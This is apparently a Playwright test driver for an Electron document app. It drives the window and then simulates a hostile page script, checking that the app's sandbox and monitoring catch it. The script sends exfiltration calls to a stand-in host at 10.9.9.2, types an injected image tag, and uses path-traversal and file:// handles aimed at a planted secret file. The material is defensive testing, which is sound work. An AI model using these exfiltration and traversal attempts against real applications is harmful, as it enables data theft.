// Uses the window as a person does, for the tests that watch the system meanwhile: session ELECTRON REPOSITORY FOLDER [plant].
// With "plant" the main process itself asks an address, reads a file and starts a program, which the tests must notice.
// Plain JavaScript, because it runs below strace and in a network of its own, where no tool could translate it.
import fs from "node:fs"
import path from "node:path"
import { createRequire } from "node:module"

const [, , electron, root, folder, plant] = process.argv
const { _electron } = createRequire(path.join(root, "package.json"))("playwright-core")
const loader = path.join(root, "node_modules/playwright-core/lib/server/electron/loader.js")
const file = path.join(folder, "session.batten")
// What a session before this one left beside the document, such as its lock, would be asked about.
for (const name of fs.readdirSync(folder))
  if (name.startsWith(".session.batten")) fs.rmSync(path.join(folder, name), { recursive: true })
fs.copyFileSync(path.join(root, "resources/samples/exchange-2001.batten"), file)

const app = await _electron.launch({
  executablePath: electron,
  args: ["-r", loader, `--user-data-dir=${path.join(folder, "session-profile")}`, root, file],
  chromiumSandbox: process.getuid() !== 0,
  timeout: 60_000,
})
const page = await app.firstWindow()
await page.locator("[data-testid=verdict]").first().waitFor({ timeout: 60_000 })
for (const screen of [2, 3, 4, 5, 6, 7, 1, 2]) {
  await page.keyboard.press(`Control+${screen}`)
  await page.waitForTimeout(300)
}
await page.locator("[role=grid] [role=gridcell]").first().click()
await page.keyboard.type("Renamed http://10.9.9.2/ <img src=http://10.9.9.2/x>")
await page.keyboard.press("Enter")
// Below strace, and beside other tests, saving takes a while.
const isSaved = () => fs.readFileSync(file, "utf8").includes("Renamed http")
for (let waits = 0; !isSaved() && waits < 300; waits++) await page.waitForTimeout(100)
if (!isSaved()) {
  const seen = await page.evaluate(() => [document.activeElement?.outerHTML.slice(0, 300), document.body.innerText])
  throw new Error(`the change was not saved; the focus, then the window: ${seen.join("\n")}`)
}
for (const id of ["keys", "help-score", "help-stored", "help-licences", "help-about"]) {
  await app.evaluate(({ Menu }, item) => Menu.getApplicationMenu().getMenuItemById(item).click(), id)
  await page.waitForTimeout(300)
  await page.keyboard.press("Escape")
}
// Whatever a script in the page would try. The tests find the beginning of it by this file.
const secret = path.join(folder, "secret.txt")
fs.writeFileSync(secret, "secret")
fs.writeFileSync(path.join(folder, "injection-begins"), "")
await page.evaluate(() => {
  navigator.sendBeacon("http://10.9.9.2/", "x")
  void fetch("http://10.9.9.2/").catch(() => undefined)
  new Image().src = "http://10.9.9.2/x.png"
  for (const url of ["ws://10.9.9.2/", "wss://10.9.9.2/"]) new WebSocket(url)
  try {
    new EventSource("http://10.9.9.2/")
    const peer = new RTCPeerConnection({ iceServers: [{ urls: "stun:10.9.9.2:9" }] })
    peer.createDataChannel("x")
    void peer.createOffer().then((offer) => peer.setLocalDescription(offer))
    new WebTransport("https://10.9.9.2:9/").ready.catch(() => undefined)
  } catch {
    // Refused.
  }
  for (const rel of ["preconnect", "dns-prefetch", "prefetch", "stylesheet", "icon", "manifest", "modulepreload"]) {
    const link = document.createElement("link")
    Object.assign(link, { rel, href: "http://10.9.9.2/link" })
    document.head.append(link)
  }
  document.body.style.backgroundImage = "url(http://10.9.9.2/css.png)"
  const video = document.createElement("video")
  video.src = "http://10.9.9.2/v.mp4"
  document.body.append(video)
})
// … and what it would try with files: every question with the path of one, where a handle belongs.
await page.evaluate(
  async ([secret, target]) => {
    const bytes = new Uint8Array([1])
    for (const channel of [
      "document:openRecent",
      "document:reload",
      "document:save",
      "document:close",
      "versions:list",
    ])
      for (const handle of [secret, target, `file://${secret}`, "../secret.txt"])
        for (const ask of [{ handle }, { handle, bytes }, { handle, bytes, how: "overwrite" }, handle])
          await window.batten.ask(channel, ask).catch(() => undefined)
    for (const recovery of [secret, target, "../../secret.txt"]) {
      await window.batten.ask("recovery:open", { recovery }).catch(() => undefined)
      const ask = { document: recovery, handle: null, name: target, bytes }
      await window.batten.ask("recovery:keep", ask).catch(() => undefined)
    }
    const url = `file://${secret}`
    await fetch(url).catch(() => undefined)
    window.open(url)
    location.href = url
  },
  [secret, path.join(folder, "planted.txt")],
)
if (plant === "plant")
  await app.evaluate(async (_electron, file) => {
    process.getBuiltinModule("node:fs").readFileSync(file)
    process.getBuiltinModule("node:child_process").spawnSync("true")
    await fetch("http://10.9.9.2/", { signal: AbortSignal.timeout(1000) }).catch(() => 0)
  }, secret)
await page.waitForTimeout(3000)
console.log("session: all done")
await app.evaluate(({ app: electronApp }) => electronApp.exit(0)).catch(() => undefined)
process.exit(0)
